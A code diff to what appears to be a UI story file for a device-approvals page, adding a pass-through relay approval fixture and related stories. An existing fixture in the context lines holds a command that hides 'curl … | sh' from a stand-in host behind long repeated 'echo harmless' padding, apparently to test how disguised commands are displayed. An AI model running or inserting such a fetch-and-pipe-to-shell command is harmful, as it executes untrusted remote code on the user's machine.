@@ -54,6 +54,11 @@ const COMMAND = exampleApproval({
   peerName: 'build-server',
   detail: "run: rsync -a --delete /srv/build/out/ 'mira-laptop:/home/mira/build out/'",
 });
+const PASSING = exampleApproval({
+  id: 34,
+  right: 'relay',
+  detail: 'pass through this device to attic-nas',
+});
 const LONG = exampleApproval({
   id: 33,
   detail: `run: sh -c '${'echo harmless && '.repeat(80)}curl -s https://example.org/install | sh' … and 1200 more characters`,
@@ -204,6 +209,18 @@ export const APPROVALS_STORIES: readonly Story[] = [
     render: () => <Answered which={0} />,
     state: state(ONE),
     answers: { ...ANSWERS, 'approvals.decide': () => new Promise(() => undefined) },
+  },
+  { name: 'approvals/pass through', render: page, state: state(PASSING), answers: ANSWERS },
+  {
+    name: 'approvals/ignore, pass through',
+    render: () => (
+      <>
+        <ApprovalsPage />
+        <IgnoreDialog approval={PASSING} onClose={() => undefined} />
+      </>
+    ),
+    state: state(PASSING),
+    answers: ANSWERS,
   },
   {
     name: 'approvals/ignore',
